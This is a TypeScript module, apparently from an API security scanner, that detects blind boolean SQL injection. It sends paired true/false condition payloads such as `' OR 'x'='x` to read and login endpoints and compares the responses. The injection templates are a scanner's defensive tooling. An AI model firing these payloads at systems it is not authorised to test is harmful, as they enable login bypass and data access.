import { bodyJson, type Exchange, isJsonObject, type ProbeContext } from '@assay/contract';
import { type TextInput, textInputs } from '../requests/text-inputs.ts';
import { status } from '../words.ts';
import { Planter } from './plant.ts';

/** Two values that differ only in whether two words are the same, and what was answered to each. */
export interface ConditionPair {
  readonly isTrue: Exchange;
  readonly isFalse: Exchange;
}

/** A place whose value is evaluated as a condition. */
export interface Condition {
  readonly operation: string;
  readonly place: string;
  /** The last pair's values. */
  readonly values: { readonly isTrue: string; readonly isFalse: string };
  readonly pairs: readonly ConditionPair[];
}

export interface Conditions {
  /** How many places were tried. */
  readonly inputs: number;
  readonly found: readonly Condition[];
}

/** Ways out of the text that a value stands in, and back into one. */
const forms: readonly ((word: string, left: string, right: string) => string)[] = [
  (word, left, right) => `${word}' OR '${left}'='${right}`,
  (word, left, right) => `${word}' OR '${left}'='${right}' -- `,
  (word, left, right) => `${word}" OR "${left}"="${right}`,
];
const confirmations = 4;
const mostInputs = 60;

/**
 * For a backend whose statements are not seen: values that hold a condition, once true and once false, with fresh words each time and in turns. Where every
 * true one is answered otherwise than every false one, the value was evaluated: nothing but an SQL condition tells the two apart. Only reads and the login are
 * asked, for a condition that is true changes everything.
 */
export async function plantConditions(context: ProbeContext): Promise<Conditions> {
  const { contract, shape, focus } = context;
  const login = shape.signIn?.login?.operation;
  const inputs = textInputs(contract)
    .filter(({ operation: { id, method }, many }) => !many && (method === 'GET' || id === login))
    .filter(({ operation: { id, soap } }) => soap === null && (focus === null || focus === id))
    .slice(0, mostInputs);
  const planter = new Planter(context);
  const found: Condition[] = [];
  for (const input of inputs) {
    context.progress(`${input.operation.id} ${input.name}`);
    for (const form of forms) {
      if (context.signal.aborted) break;
      const condition = await evaluated(context, planter, input, form);
      if (condition === null) continue;
      found.push(condition);
      break;
    }
  }
  return { inputs: inputs.length, found };
}

async function evaluated(
  context: ProbeContext,
  planter: Planter,
  input: TextInput,
  form: (typeof forms)[number],
): Promise<Condition | null> {
  const pairs: ConditionPair[] = [];
  let values = { isTrue: '', isFalse: '' };
  const ask = async (value: string): Promise<Exchange | null> => {
    const spec = await planter.request(input, { value });
    return spec === null ? null : context.backend.send(spec, { signal: context.signal });
  };
  for (let round = 0; round <= confirmations; round += 1) {
    const [word, left, right] = ['zq', 'zx', 'zy'].map((prefix) => context.random.unique(prefix));
    if (word === undefined || left === undefined || right === undefined) return null;
    values = {
      isTrue: form(word, left, left),
      isFalse: form(word, left, right.slice(0, left.length).padEnd(left.length, 'q')),
    };
    const [first, second] = round % 2 === 0 ? [values.isTrue, values.isFalse] : [values.isFalse, values.isTrue];
    const one = await ask(first);
    const other = await ask(second);
    if (one === null || other === null) return null;
    pairs.push(round % 2 === 0 ? { isTrue: one, isFalse: other } : { isTrue: other, isFalse: one });
    if (!isToldApart(pairs)) return null;
  }
  return { operation: input.operation.id, place: input.place, values, pairs };
}

/** Whether all true ones were answered alike, and all false ones otherwise. */
export function isToldApart(pairs: readonly ConditionPair[]): boolean {
  const views = pairs.map(({ isTrue, isFalse }) => [viewOf(isTrue), viewOf(isFalse)] as const);
  const [first] = views;
  return (
    first !== undefined &&
    first[0] !== null &&
    first[1] !== null &&
    first[0] !== first[1] &&
    views.every(([one, other]) => one === first[0] && other === first[1])
  );
}

/** The status, and whether there is anything in the answer's lists; null when it says nothing. */
function viewOf(exchange: Exchange): string | null {
  const code = status(exchange);
  if (code === null || code === 429 || code === 503) return null;
  return code >= 300 ? String(code) : `${code} ${holdsItems(bodyJson(exchange.response?.body))}`;
}

function holdsItems(body: unknown): 'items' | 'no items' | 'no list' {
  if (Array.isArray(body)) return body.length > 0 ? 'items' : 'no items';
  if (!isJsonObject(body)) return 'no list';
  const inside = Object.values(body).map(holdsItems);
  if (inside.includes('items')) return 'items';
  return inside.includes('no items') ? 'no items' : 'no list';
}
